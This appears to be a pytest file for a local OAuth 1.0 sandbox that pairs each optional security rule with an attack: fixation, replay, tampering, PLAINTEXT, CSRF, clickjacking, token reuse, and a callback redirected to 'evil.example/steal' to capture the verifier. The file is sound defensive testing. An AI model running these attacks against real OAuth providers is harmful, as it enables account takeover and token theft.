"""Each rule that can be switched off, as a pair: off, the attack succeeds; on, it is refused.

The same attack runs at both sites, so a rule that stopped working would fail its test.
"""

import re
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any
from urllib.parse import parse_qs, parse_qsl, urlsplit

import pytest

import nb23
from nb23.sandbox import Box, SandboxError
from nb23.sandbox.verify import RULES

STEP_1, STEP_3 = "/oauth/request_token", "/oauth/access_token"
JSON = [("format", "json"), ("raw", "1")]
Attack = Callable[[Box, Any, Any], str]
ATTACKS: dict[str, Attack] = {}


def attack(slug: str) -> Callable[[Attack], Attack]:
    def add(function: Attack) -> Attack:
        ATTACKS[slug] = function
        return function

    return add


def begin(app: Any, callback: str | None = "oob") -> Any:
    return app.with_token(app.call("GET", STEP_1, callback=callback))


def link(box: Box, pending: Any) -> str:
    return f"{box.url}/oauth/authorize?oauth_token={pending.token}"


def outcome(answer: Any) -> str:
    """The rule that refused; empty if the attack succeeded."""
    if 'status="ok"' in answer.text or '"status": "ok"' in answer.text:
        return ""
    if answer.ok and "oauth_token=" in answer.text:
        return ""
    found = re.match(r"[a-z-]+(?=:)", answer.text) or re.search(
        r'rule(?:="|": ")([a-z-]+)"', answer.text
    )
    assert found, answer.text
    return found[found.re.groups]


@attack("verifier")
def fixate(box: Box, app: Any, signing: Any) -> str:
    """The session fixation of 2009: the victim allows, the attacker exchanges without a code."""
    pending = begin(app)
    box.approve(link(box, pending))
    return outcome(pending.call("GET", STEP_3, verifier=None))


@attack("callback")
def steal_the_callback(box: Box, app: Any, signing: Any) -> str:
    """The answer is led to another address by a link that was changed."""
    answer = app.call("GET", STEP_1, callback=None)
    if not answer.ok:
        return outcome(answer)
    pending = app.with_token(answer)
    browser = box.browser("anna")
    browser.get(f"{link(box, pending)}&oauth_callback=http://evil.example/steal")
    page = browser.press("Allow")
    assert urlsplit(page.url).hostname == "evil.example"
    assert "oauth_verifier" in page.url
    return ""


@attack("callback-confirmed")
def hide_that_the_callback_was_understood(box: Box, app: Any, signing: Any) -> str:
    """A client cannot tell a provider of OAuth 1.0, which is open to fixation."""
    values = dict(parse_qsl(app.call("GET", STEP_1, callback="oob").text))
    return "callback-confirmed" if "oauth_callback_confirmed" in values else ""


@attack("nonce")
def replay(box: Box, app: Any, signing: Any) -> str:
    """A request that was overheard is sent again."""
    header = {"Authorization": signing.header_of(app.oauth("GET", STEP_1, [], callback="oob"))}
    assert app.send("GET", STEP_1, headers=header).ok
    return outcome(app.send("GET", STEP_1, headers=header))


@attack("timestamp")
def replay_late(box: Box, app: Any, signing: Any) -> str:
    """A request of yesterday is sent again, when its nonce is forgotten."""
    user = signed_in(box, app)
    header = {"Authorization": signing.header_of(user.oauth("GET", "/api/echo", JSON))}
    assert not outcome(user.send("GET", "/api/echo", "format=json&raw=1", headers=header))
    box.forward(86_400)
    return outcome(user.send("GET", "/api/echo", "format=json&raw=1", headers=header))


@attack("signature")
def tamper(box: Box, app: Any, signing: Any) -> str:
    """A parameter is changed on the way."""
    user = signed_in(box, app)
    header = {"Authorization": signing.header_of(user.oauth("POST", "/api/echo", [("to", "anna")]))}
    return outcome(user.send("POST", "/api/echo", form="to=mallory", headers=header))


@attack("body")
def add_a_body(box: Box, app: Any, signing: Any) -> str:
    """A form is added to a POST that was signed without one."""
    user = signed_in(box, app)
    header = {"Authorization": signing.header_of(user.oauth("POST", "/api/album/create", []))}
    answer = user.send("POST", "/api/album/create", form="title=Mine&format=json", headers=header)
    return outcome(answer)


@attack("method")
def send_the_secrets_plainly(box: Box, app: Any, signing: Any) -> str:
    """With PLAINTEXT the secret itself travels: who overhears one request signs the next."""
    changes = {"signature_method": "PLAINTEXT", "signature": f"{app.secret}&"}
    return outcome(app.call("GET", STEP_1, callback="oob", **changes))


@attack("level")
def climb(box: Box, app: Any, signing: Any) -> str:
    """An application of level write makes a user."""
    user = signed_in(box, app)
    return outcome(user.call("POST", "/api/user/create", [*JSON, ("email", "eve@kestrel.example")]))


@attack("own-site")
def use_a_foreign_key(box: Box, app: Any, signing: Any) -> str:
    """An application of one site asks for permission on another, whose owner never saw it."""
    stranger = replace(app, url=box.other_url)
    return outcome(stranger.call("GET", STEP_1, callback="oob"))


@attack("consent-token")
def forge_consent(box: Box, app: Any, signing: Any) -> str:
    """A page of mallory's makes anna's browser send the form of the consent page."""
    pending = begin(app)
    page = box.browser("anna").post(
        "/oauth/authorize", {"oauth_token": pending.token, "decision": "allow"}
    )
    if page.status == 403:
        found = re.search(r"\(Rule: ([a-z-]+)\)", page.text)
        assert found
        assert box.requests[-1].rule == "consent-token"
        return found[1]
    return outcome(pending.call("GET", STEP_3, verifier=page.marked["verifier"]))


@attack("framing")
def frame_the_consent_page(box: Box, app: Any, signing: Any) -> str:
    """The consent page lies invisibly under another one; the browser forbids it when told to."""
    headers = box.browser("anna").get(link(box, begin(app))).headers
    told = (headers.get("X-Frame-Options") == "DENY",
            "frame-ancestors 'none'" in headers["Content-Security-Policy"])  # fmt: skip
    assert len(set(told)) == 1
    return "framing" if all(told) else ""


@attack("one-use")
def exchange_twice(box: Box, app: Any, signing: Any) -> str:
    """A verifier that was overheard gives a second access token."""
    pending = begin(app)
    verifier = box.approve(link(box, pending))
    assert pending.call("GET", STEP_3, verifier=verifier).ok
    return outcome(pending.call("GET", STEP_3, verifier=verifier))


@attack("revocation")
def use_a_revoked_token(box: Box, app: Any, signing: Any) -> str:
    """A lost notebook goes on reading after the user took the permission back."""
    user = signed_in(box, app)
    box.revoke(user.token)
    return outcome(user.call("GET", "/api/site/get", JSON))


def signed_in(box: Box, app: Any) -> Any:
    pending = begin(app)
    verifier = box.approve(link(box, pending))
    return pending.with_token(pending.call("GET", STEP_3, verifier=verifier))


@pytest.fixture(scope="module", params=sorted(ATTACKS))
def slug(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def weak_box(slug: str) -> Iterator[Box]:
    with nb23.sandbox.start(without={slug}, videos=3) as box:
        yield box


def test_with_the_rule_on_the_attack_is_refused_and_the_rule_named(
    slug: str, box: Box, app: Any, signing: Any
) -> None:
    assert ATTACKS[slug](box, app, signing) == slug


def test_with_the_rule_off_the_attack_succeeds_and_every_page_warns(
    slug: str, weak_box: Box, caller: Any, signing: Any
) -> None:
    app = caller(weak_box.url, *weak_box.keys)
    assert ATTACKS[slug](weak_box, app, signing) == ""
    for path in ("/", "/login", "/profile", "/applications/new", "/nothing"):
        text = weak_box.browser("anna").get(path).text
        assert re.search(rf'role="alert"><strong>Rules are switched off:</strong> {slug}\.', text)


def test_every_rule_with_a_public_slug_has_an_attack() -> None:
    assert set(ATTACKS) == {rule.slug for rule in RULES if rule.optional} == {
        "verifier", "callback", "callback-confirmed", "nonce", "timestamp", "signature", "body",
        "method", "level", "own-site", "consent-token", "framing", "one-use", "revocation",
    }  # fmt: skip


def test_no_rule_is_off_by_default_nor_at_a_public_address(box: Box) -> None:
    assert "switched off" not in box.browser("anna").get("/").text
    with pytest.raises(SandboxError, match="on this machine only"):
        nb23.sandbox.start(without={"nonce"}, public_url="https://hub.example/x")


def test_a_callback_in_the_link_is_ignored(box: Box, app: Any) -> None:
    browser = box.browser("anna")
    browser.get(f"{link(box, begin(app))}&oauth_callback=http://evil.example/steal")
    assert browser.press("Allow").marked["verifier"]


def test_the_sha256_of_without_method_must_be_right_too(caller: Any, signing: Any) -> None:
    with nb23.sandbox.start(without={"method"}, videos=3) as box:
        app = caller(box.url, *box.keys)
        how = {"callback": "oob", "signature_method": "HMAC-SHA256"}
        pairs = app.oauth("GET", STEP_1, [], signature=None, **how)
        base = signing.base_string("GET", app.url + STEP_1, pairs)
        right = signing.hmac_text(base, app.secret, "", "sha256")
        for signature, slug in ((right, ""), ("wrong", "signature")):
            header = signing.header_of([*pairs, ("oauth_signature", signature)])
            assert outcome(app.send("GET", STEP_1, headers={"Authorization": header})) == slug
        unknown = app.call("GET", STEP_1, callback="oob", signature_method="RSA-SHA1")
        assert outcome(unknown) == "signature"


def test_a_generic_key_works_on_every_site_and_other_keys_on_their_own(
    box: Box, caller: Any
) -> None:
    for url, owner in ((box.url, False), (box.other_url, True)):
        app = caller(url, *box.generic_keys)
        pending = begin(app)
        browser = box.browser("mallory", other_site=owner)
        browser.get(f"/oauth/authorize?oauth_token={pending.token}")
        answer = pending.call("GET", STEP_3, verifier=browser.press("Allow").marked["verifier"])
        values = dict(parse_qsl(answer.text))
        assert values["domain"] == urlsplit(url).netloc
        reply = app.with_token(answer).api("site/get")
        assert reply["site"]["domain"] == values["domain"]
    assert reply["site"]["site_name"] == "Finch & Daughters"


def test_a_token_of_one_site_is_none_of_the_other(box: Box, caller: Any) -> None:
    stranger = caller(box.other_url, *box.keys, *box.tokens)
    assert stranger.api("site/get")["rule"] == "own-site"


def test_a_revoked_token_is_refused_on_public_methods_too_and_others_live_on(
    box: Box, app: Any, user: Any
) -> None:
    other = signed_in(box, app)
    box.revoke(other.token)
    assert other.api("site/get")["rule"] == "revocation"
    assert user.api("site/get")["status"] == "ok"
    with pytest.raises(SandboxError):
        box.revoke("1-nothing")


def test_a_registered_callback_host_is_the_only_one(box: Box, caller: Any) -> None:
    browser = box.browser("anna")
    browser.get("/applications/new")
    form = {"name": "Bound", "callback": "http://127.0.0.1/back", "level": "read"}
    marked = browser.press("Create application", **form).marked
    app = caller(box.url, marked["consumer-key"], marked["consumer-secret"])
    assert app.call("GET", STEP_1, callback="http://127.0.0.1:5000/x").ok
    assert app.call("GET", STEP_1, callback="oob").ok
    refused = app.call("GET", STEP_1, callback="http://evil.example/back")
    assert outcome(refused) == "callback"


def test_a_request_token_expires_and_an_access_token_does_not(box: Box, app: Any) -> None:
    user, pending = signed_in(box, app), begin(app)
    verifier = box.approve(link(box, pending))
    late = str(int(time.time()) + 3700)
    box.forward(3700)
    answer = pending.call("GET", STEP_3, verifier=verifier, timestamp=late)
    assert outcome(answer) == "token"
    box.forward(2 * 365 * 86_400)
    stamp = str(int(time.time()) + 3700 + 2 * 365 * 86_400)
    assert not outcome(user.call("GET", "/api/echo", JSON, timestamp=stamp))


def test_a_link_that_was_changed_shows_the_victim_where_the_answer_goes(caller: Any) -> None:
    with nb23.sandbox.start(without={"callback"}, videos=3) as box:
        pending = begin(caller(box.url, *box.keys))
        page = box.browser("anna").get(f"{link(box, pending)}&oauth_callback=http://evil.example/")
        assert "evil.example" in page.text
        assert not parse_qs(urlsplit(page.url).query).get("oauth_verifier")
